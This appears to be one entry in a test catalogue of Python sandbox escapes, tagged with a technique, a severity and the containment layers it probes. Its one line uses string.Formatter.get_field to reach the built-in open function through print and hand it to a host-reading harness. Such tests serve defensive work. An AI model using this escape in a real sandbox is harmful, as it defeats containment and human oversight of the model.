# technique: string.Formatter gives the object that a field names
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import string

read_host(lambda: string.Formatter().get_field("0.__self__.open", (print,), {})[0])
